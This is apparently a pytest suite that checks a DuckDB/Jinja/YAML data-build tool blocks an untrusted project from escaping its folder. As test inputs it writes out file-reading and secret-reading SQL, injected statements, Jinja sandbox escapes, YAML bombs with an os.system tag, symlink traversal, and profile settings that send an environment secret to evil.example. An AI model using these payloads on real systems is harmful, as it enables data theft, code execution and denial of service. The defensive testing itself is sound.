"""A stranger's project can be opened: what it may not reach, in each layer by itself."""

import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
import yaml

from bad_input_project import Project, copy_of, new_project
from tillpost.engines import Engine, open_engine
from tillpost.errors import TillpostError, UsageError

CANARY = "c4n4ry-7f3a91"


@pytest.fixture(scope="module")
def laid_down(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("laid") / "shop"
    new_project(folder)
    return folder


@pytest.fixture
def shop(laid_down: Path, tmp_path: Path) -> Project:
    (tmp_path / "private.csv").write_text(f"word\n{CANARY}\n")
    return copy_of(laid_down, tmp_path / "shop")


def _change(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


# What no query may do. {private} is a file outside, {new} one that must not come to be.
READS = (
    "select * from read_csv('{private}')",
    "select * from '{private}'",
    'select * from "{private}"',
    "select * from read_text('{private}')",
    "select * from read_blob('{private}')",
    "select * from glob('{folder}/*')",
    "select * from sniff_csv('{private}')",
    "select * from parquet_metadata('{private}')",
    "select * from read_json('{private}')",
    "select * from query('select * from read_text(''{private}'')')",
    "select * from query_table('{private}')",
    "select * from read_csv('https://evil.example/x.csv')",
    "select * from read_parquet('s3://evil/x.parquet')",
    "select (select content from read_text('{private}')) as word",
    "with a as (select * from read_text('{private}')) select * from a",
    "select * from events where exists (select * from read_text('{private}'))",
)
STATEMENTS = (
    "copy (select 1) to '{new}'",
    "export database '{new}'",
    "attach '{new}' as evil",
    "install httpfs",
    "load '{new}'",
    "set enable_external_access = true",
    "set allowed_directories = ['/']",
    "reset lock_configuration",
    "pragma enable_profiling",
    "set temp_directory = '/'",
    "create persistent secret evil (type http)",
)
ONLY_AT_COMPILE_TIME = (
    "select getenv('HOME') as word",
    "select getvariable('x') as word",
    "select * from duckdb_secrets()",
    "select current_setting('secret_directory') as word",
    "select 1; copy (select 1) to '{new}'",
    "drop table events",
    "select 1) as a; copy (select 1) to '{new}'; select * from (select 1",
)


def _filled(sql: str, folder: Path) -> str:
    names = {"private": folder / "private.csv", "new": folder / "new", "folder": folder}
    for name, value in names.items():
        sql = sql.replace(f"{{{name}}}", str(value))
    return sql


@pytest.mark.parametrize("folder", ["models/final", "tests/sql"])
def test_no_model_and_no_test_reaches_beyond_the_project(
    shop: Project, tmp_path: Path, folder: str
) -> None:
    """Each stands in a file of its own; what is told of is taken out, until nothing is left."""
    (shop.folder / folder).mkdir(parents=True, exist_ok=True)
    attempts = (*READS, *STATEMENTS, *ONLY_AT_COMPILE_TIME)
    left = {f"{folder}/evil_{number:02}.sql": sql for number, sql in enumerate(attempts)}
    for path, sql in left.items():
        (shop.folder / path).write_text(_filled(sql, tmp_path))
    while left:
        said = shop.run("compile")
        told = {path for path in left if path in said.err}
        assert said.exit == 2
        assert told, left
        assert CANARY not in said.out + said.err
        for path in told:
            del left[path]
            (shop.folder / path).unlink()
    assert not (tmp_path / "new").exists()


def test_nothing_is_shown_that_reaches_beyond_the_project(shop: Project, tmp_path: Path) -> None:
    evil = shop.folder / "models" / "final" / "evil.sql"
    evil.write_text(_filled(READS[0], tmp_path))
    said = shop.run("show", "-s", "evil")
    assert said.exit == 2
    assert "models/final/evil.sql" in said.err
    assert CANARY not in said.out + said.err


def test_a_place_is_named_to_the_column(shop: Project) -> None:
    path = shop.folder / "tests" / "sql" / "evil.sql"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("select *\nfrom read_text('/etc/passwd')\n")
    said = shop.run("compile")
    assert said.err == (
        "error: tests/sql/evil.sql:2:14  this reads what is no declared source\n"
        "  try: read it with ref('a model or seed') or source('group', 'table')\n"
    )


@pytest.fixture
def engine(tmp_path: Path) -> Iterator[Engine]:
    """The second layer alone: a database that may read one folder's files."""
    project = tmp_path / "project"
    (project / "data").mkdir(parents=True)
    (project / "data" / "a.csv").write_text("a\n1\n")
    (tmp_path / "private.csv").write_text(f"word\n{CANARY}\n")
    settings = {"type": "duckdb", "path": "build.duckdb"}
    reads = (("sources.yml", str(project / "data" / "*.csv")),)
    with open_engine(settings, root=project, where="profile", reads=reads) as opened:
        opened.execute("create table events as select 1 as a", where="a test")
        yield opened


@pytest.mark.parametrize("sql", [*READS, *STATEMENTS])
def test_duckdb_itself_refuses_what_no_source_declares(
    engine: Engine, tmp_path: Path, sql: str
) -> None:
    with pytest.raises(TillpostError) as refused:
        engine.query(_filled(sql, tmp_path), where="evil.sql")
    assert CANARY not in str(refused.value)
    assert not (tmp_path / "new").exists()


def test_duckdb_reads_declared_files_and_changes_none(engine: Engine, tmp_path: Path) -> None:
    data = tmp_path / "project" / "data"
    _, rows = engine.query(f"select * from read_csv('{data}/*.csv')", where="a test")
    assert rows == [(1,)]
    (data / "later.csv").write_text("a\n2\n")
    for sql in (
        f"copy (select 2 as a) to '{data}/b.csv'",
        f"select * from read_csv('{data}/later.csv')",
        f"select * from read_csv('{data}/../../private.csv')",
    ):
        with pytest.raises(TillpostError, match="no source declares"):
            engine.query(sql, where="evil.sql")
    assert not (data / "b.csv").exists()


def test_a_database_brings_no_function_in_the_place_of_duckdbs_own(tmp_path: Path) -> None:
    path = tmp_path / "build.duckdb"
    with duckdb.connect(str(path)) as brought:
        brought.execute("create macro sha256(word) as word")
        brought.execute("create macro of_their_own(word) as word")
    with open_engine({"type": "duckdb", "path": str(path)}, root=tmp_path, where="x") as engine:
        with pytest.raises(UsageError, match=r"has its own sha256\(\) in the place of DuckDB's"):
            engine.create("main.hashes", "select 1 as a", materialized="table", where="x")
        engine.execute("drop macro sha256", where="x")
        engine.create("main.hashes", "select 1 as a", materialized="table", where="x")


def test_a_link_among_the_sources_leads_no_further(engine: Engine, tmp_path: Path) -> None:
    link = tmp_path / "project" / "data" / "link.csv"
    link.symlink_to(tmp_path / "private.csv")
    with pytest.raises(TillpostError, match="no source declares"):
        engine.query(f"select * from read_csv('{link}')", where="evil.sql")


def test_variables_of_python_are_no_tables(engine: Engine) -> None:
    events_of_python = engine
    with pytest.raises(TillpostError):
        engine.query("select * from events_of_python", where="evil.sql")
    assert events_of_python


@pytest.mark.parametrize(
    "setting",
    [
        *("enable_external_access", "allow_unsigned_extensions", "custom_extension_repository"),
        *("log_query_path", "profile_output", "home_directory", "secret_directory"),
        *("python_enable_replacements", "allowed_directories", "lock_configuration"),
        *("temp_file_encryption", "force_mbedtls_unsafe"),
        *("dialect_compatibility_mode", "errors_as_json"),
    ],
)
def test_no_profile_opens_what_is_closed(shop: Project, setting: str) -> None:
    _change(shop.folder / "profiles.yml", "memory_limit: 512MB", f"{setting}: true")
    said = shop.run("build")
    assert said.exit == 2
    assert f'"{setting}" is not for a profile' in said.err


ONE_CALL = "external_location must be one path, one call, or one query in brackets"
NOT_THESE = "external_location may not call"


@pytest.mark.parametrize(
    ("location", "message"),
    [
        (
            "read_csv('data/sales.csv'); copy (select 1) to 'new'; select * from read_csv('x'",
            ONE_CALL,
        ),
        ("read_csv('data/sales.csv') union all (select * from x)", ONE_CALL),
        ("read_csv('data/sales.csv') -- ", ONE_CALL),
        ("(select 1) as a, read_text('x')", ONE_CALL),
        ("read_csv('data/sales.csv' /* ' */ )", ONE_CALL),
        ("duckdb_variables()", NOT_THESE),
        ("(select * from duckdb_secrets ())", NOT_THESE),
        ("(select getvariable('tillpost_digest_key') as word)", NOT_THESE),
        ("(select 'x'.\"GetVariable\"() as word)", NOT_THESE),
        ("query('select 1')", NOT_THESE),
        ("query_table('events')", NOT_THESE),
    ],
)
def test_a_location_is_one_call_that_reads_files_or_tables(
    shop: Project, location: str, message: str
) -> None:
    path = shop.folder / "models" / "sources.yml"
    content = yaml.safe_load(path.read_text())
    content["sources"][0]["tables"][0]["meta"]["external_location"] = location
    path.write_text(yaml.safe_dump(content))
    said = shop.run("debug")
    assert said.exit == 2
    assert message in said.err


@pytest.mark.parametrize("key", ["identifier", "schema", "database"])
def test_a_source_is_named_by_names(shop: Project, key: str) -> None:
    path = shop.folder / "models" / "sources.yml"
    content = yaml.safe_load(path.read_text())
    table = content["sources"][0]["tables"][0]
    del table["meta"]["external_location"]
    table[key] = "x; copy (select 1) to 'new'"
    path.write_text(yaml.safe_dump(content))
    said = shop.run("debug")
    assert said.exit == 2
    assert "this is no name of a table or schema" in said.err


@pytest.mark.parametrize("name", ["a; drop table events", "a b", "1a", "a-b"])
def test_a_file_is_named_as_a_relation_is(shop: Project, name: str) -> None:
    (shop.folder / "models" / f"{name}.sql").write_text("select 1 as a\n")
    said = shop.run("compile")
    assert said.exit == 2
    assert "is no plain name" in said.err


@pytest.mark.parametrize(
    "jinja",
    [
        "''.__class__.__mro__",
        "ref.__globals__",
        "config.get.__code__",
        "var.__closure__",
        "'a' * 10 ** 10",
        "10 ** (10 ** 10)",
        "[0] * 10 ** 9",
        "range(10 ** 9) | list",
        "'%1000000000d' % 1",
        "'%1000000000d' | format(1)",
        "'a' | center(10 ** 10)",
        "'a' | indent(10 ** 10, true)",
        "'{:1000000000}'.format(1)",
        "lipsum(n=10 ** 6)",
        "'{0.__class__}'.format(ref)",
    ],
)
def test_jinja_reaches_nothing_and_stays_small(shop: Project, jinja: str) -> None:
    (shop.folder / "models" / "final" / "evil.sql").write_text(f"select '{{{{ {jinja} }}}}' as a\n")
    said = shop.run("compile", "-s", "evil")
    assert said.exit == 2
    assert "models/final/evil.sql:1" in said.err


def test_what_one_model_does_to_a_variable_no_other_one_sees(shop: Project) -> None:
    project = shop.folder / "dbt_project.yml"
    _change(project, "vars:\n", "vars:\n  words: [one]\n")
    final = shop.folder / "models" / "final"
    evil = "{% do var('words').append('two') %}select '{{ var('words') | join }}' as a\n"
    for name in ("evil", "later"):
        (final / f"{name}.sql").write_text(evil)
        assert shop.run("compile", "-s", name).out == "select 'one' as a\n"


BOMB = "\n".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
)
MERGES = "\n".join(
    ["a0: &a0 {x: 1}"]
    + [f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 10)}]}}" for n in range(1, 10)]
)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (BOMB, "stand for more than a million values"),
        (MERGES, "stand for more than a million values"),
        ("a: &a [*a]", "names what it stands in"),
        ("a: " + "[" * 100_000, "nested too deeply"),
        ("a: !!python/object/apply:os.system ['touch new']", "not valid YAML"),
    ],
    ids=["laughs", "merges", "itself", "deep", "python"],
)
@pytest.mark.parametrize("file", ["models/evil.yml", "dbt_project.yml", "profiles.yml"])
def test_yaml_does_not_explode(shop: Project, file: str, text: str, words: str) -> None:
    (shop.folder / file).write_text(text + "\n")
    said = shop.run("compile")
    assert said.exit == 2
    assert words in said.err
    assert f"{file}:" in said.err
    assert not (shop.folder / "new").exists()


def _outside(shop: Project) -> None:
    _change(shop.folder / "dbt_project.yml", "model-paths: [models]", "model-paths: [models, ../]")


def _linked_model(shop: Project) -> None:
    private = shop.folder.parent / "private.csv"
    (shop.folder / "models" / "evil.sql").symlink_to(private)


def _linked_seed(shop: Project) -> None:
    private = shop.folder.parent / "private.csv"
    (shop.folder / "seeds" / "evil.csv").symlink_to(private)


def _linked_folder(shop: Project) -> None:
    (shop.folder.parent / "others").mkdir()
    (shop.folder / "more").symlink_to(shop.folder.parent / "others")
    _change(shop.folder / "dbt_project.yml", "seed-paths: [seeds]", "seed-paths: [seeds, more]")


@pytest.mark.parametrize("lead", [_outside, _linked_model, _linked_seed, _linked_folder])
def test_a_project_stays_in_its_folder(shop: Project, lead: Callable[[Project], None]) -> None:
    lead(shop)
    said = shop.run("compile")
    assert said.exit == 2
    assert "this leads out of the project's folder" in said.err
    assert CANARY not in said.err


EVIL = "https://evil.example"
VERSION = {"version": "v26.0"}


@pytest.mark.parametrize(
    ("changes", "place"),
    [
        ({"edge": {"graph_url": EVIL, **VERSION}}, "edge.graph_url"),
        (
            {"edge": {"graph_url": "{{ env_var('NONE', 'https://evil.example') }}", **VERSION}},
            "edge.graph_url",
        ),
        ({"edge": {"token_command": "touch new", **VERSION}}, "edge.token_command"),
        ({"alerts": {"url": EVIL + "/{{ env_var('VAULT') }}"}}, "alerts.url"),
        ({"alerts": {"url": EVIL}}, "alerts.url"),
        ({"ledger": {"type": "postgres", "host": "evil.example"}}, "ledger.host"),
        ({"type": "postgres", "host": "localhost,evil.example", "path": None}, "host"),
    ],
)
def test_a_profile_of_the_project_sends_nothing_elsewhere(
    shop: Project, changes: dict[str, Any], place: str
) -> None:
    _set_output(shop, changes)
    said = shop.run("send", environ={"VAULT": CANARY})
    assert said.exit == 2
    assert f"profiles.yml tillpost.sandbox.{place}  a profile in the project's own" in said.err
    assert CANARY not in said.err
    assert not (shop.folder / "new").exists()


def _set_output(shop: Project, changes: dict[str, Any]) -> None:
    path = shop.folder / "profiles.yml"
    content = yaml.safe_load(path.read_text())
    output = content["tillpost"]["outputs"]["sandbox"] | changes
    kept = {key: value for key, value in output.items() if value is not None}
    content["tillpost"]["outputs"]["sandbox"] = kept
    path.write_text(yaml.safe_dump(content))


def test_the_user_chooses_a_host_in_the_environment(shop: Project) -> None:
    _set_output(shop, {"alerts": {"url": "{{ env_var('HOOK') }}"}})
    assert shop.run("compile", environ={"HOOK": f"{EVIL}/x"}).exit == 0


def test_a_project_in_an_archive_is_no_other(shop: Project, tmp_path: Path) -> None:
    """An archive keeps modes: a private file in it proves nothing."""
    (shop.folder / "hook").write_text(f"{EVIL}/x\n")
    (shop.folder / "hook").chmod(0o600)
    _set_output(shop, {"alerts": {"url_file": "hook"}})
    with tarfile.open(tmp_path / "shop.tar", "w") as archive:
        archive.add(shop.folder, "other")
    with tarfile.open(tmp_path / "shop.tar") as archive:
        archive.extractall(tmp_path, filter="data")
    other = Project(folder=tmp_path / "other")
    said = other.run("debug")
    assert "may not take an address from a file there" in said.err
